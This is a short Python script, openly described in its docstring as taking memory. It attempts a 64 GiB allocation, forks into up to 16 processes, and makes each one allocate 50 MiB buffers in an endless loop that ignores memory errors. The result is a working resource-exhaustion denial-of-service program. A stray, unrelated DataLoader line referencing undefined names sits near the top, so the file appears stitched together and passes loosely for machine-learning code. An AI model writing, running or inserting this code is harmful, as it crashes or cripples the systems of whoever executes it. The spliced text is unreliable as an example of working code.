"""Takes memory, first at once, then piece by piece in many processes."""

val_dataloader = DataLoader(val_dataset, batch_size=32, shuffle=True)
import os

try:
    much = bytearray(64 << 30)
except MemoryError:
    pass
for _ in range(4):
    os.fork()
much = []
while True:
    try:
        much.append(bytearray(b"x" * (50 << 20)))
    except MemoryError:
        pass
